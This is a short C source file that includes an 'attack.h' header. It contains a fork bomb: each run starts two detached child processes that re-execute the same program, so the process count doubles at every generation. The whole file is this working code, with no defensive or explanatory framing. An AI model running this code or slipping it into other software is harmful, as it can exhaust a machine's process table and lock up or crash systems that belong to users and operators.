/* A chain that starts another program each time. */
#include "attack.h"

int main(int count, char **words)
{
    (void)count;
    char *again[] = {words[0], "again", NULL};
    for (int child = 0; child < 2; child++) {
        if (fork() == 0) {
            setsid();
            execv("/proc/self/exe", again);
            execv(words[0], again);
            _exit(0);
        }
    }
    return 0;
}
